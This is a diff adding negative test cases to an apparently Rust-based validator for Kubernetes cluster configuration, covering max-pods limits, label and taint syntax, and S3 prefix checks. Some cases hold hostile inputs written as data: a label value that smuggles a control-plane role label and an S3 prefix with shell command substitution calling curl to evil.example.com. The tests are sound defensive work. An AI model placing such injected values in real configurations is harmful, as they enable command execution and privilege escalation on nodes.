@@ -111,6 +111,37 @@ bad!(
 );
 bad!(bad_kubernetes_version, format!("{BASE}kubernetesVersion: 1.3\n"));
 bad!(empty_file, "# nothing here\n");
+// Issue 11 finding 4b: max-pods above what the instance type can address with the VPC CNI.
+bad!(
+    max_pods_above_the_instance_types_limit,
+    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      instanceType: m6i.large\n      maxPods: 110\n")
+);
+bad!(
+    max_pods_unknown_instance_type,
+    format!("{BASE}controller:\n  instanceType: g5.xlarge\n")
+);
+// Issue 12 class 7: labels and taints exactly as Kubernetes checks them, so
+// ',' and '=' cannot add labels to the kubelet's --node-labels.
+bad!(
+    label_value_smuggles_a_label,
+    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{team: 'web,node-role.kubernetes.io/control-plane=x'}}\n")
+);
+bad!(
+    label_key_with_whitespace,
+    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{'team a': web}}\n")
+);
+bad!(
+    taint_value_with_equals,
+    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      taints: [{{key: dedicated, value: 'a=b', effect: NoSchedule}}]\n")
+);
+bad!(
+    s3_prefix_with_command_substitution,
+    BASE.replace("s3://bucket-1/kube-aws", "s3://bucket-1/$(curl evil.example.com)")
+);
+bad!(
+    s3_prefix_with_cloudformation_substitution,
+    BASE.replace("s3://bucket-1/kube-aws", "s3://bucket-1/${AWS::AccountId}")
+);
 bad!(
     several_errors_at_once,
     format!("{BASE}controller:\n  count: 0\nworker:\n  nodePools:\n    - name: Bad_Name\nhelm:\n  version: 1\n")
